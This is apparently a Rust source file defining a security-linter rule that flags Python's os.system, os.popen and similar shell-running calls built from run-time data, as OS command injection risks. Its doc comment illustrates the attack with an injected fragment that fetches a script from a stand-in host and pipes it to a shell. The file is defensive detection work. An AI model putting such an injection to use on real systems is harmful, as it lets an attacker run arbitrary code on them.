use crate::call_pattern::{Arg, CallPattern, Cond};
use crate::declare_rule;
use crate::rule::Category;
use vigil_knowledge::commands::OS_SHELL;
use vigil_report::{Confidence, Severity};

declare_rule! {
    /// ## What it does
    /// Flags `os.system`, `os.popen` and the other functions that always run
    /// their command through a shell (Python 2's `popen2` and `commands`,
    /// Fabric's `local`, Invoke's `run` and `sudo`), when the command is
    /// built at run time.
    ///
    /// ## Why is this bad?
    /// These functions pass the whole string to `/bin/sh -c`. Text from
    /// outside that lands in it can end the intended command and start
    /// another (`; curl evil | sh`): OS command injection. There is no safe
    /// way to call them with untrusted data.
    ///
    /// ## Example
    /// ```python
    /// os.system("ping -c 1 " + host)
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// subprocess.run(["ping", "-c", "1", host], check=True)
    /// ```
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    pub static RULE = {
        name: "os-shell-command",
        category: Category::Injection,
        cwe: &[78],
        severity: Severity::High,
        confidence: Confidence::High,
        bandit: &["B605"],
        ruff: &["S605"],
        help: "Use `subprocess.run([...])` with a list of arguments and no shell; never build a shell command from data.",
        calls: &[
            CallPattern::new(
                OS_SHELL,
                &[Cond::NonLiteral(Arg::at(0, "cmd"))],
                "`{callee}` runs a command built at run time through a shell: shell metacharacters in it are executed",
            ),
            CallPattern::new(
                OS_SHELL,
                &[Cond::Literal(Arg::at(0, "cmd"))],
                "`{callee}` runs a fixed command through a shell",
            )
            .audit(Severity::Low),
        ],
    };
}
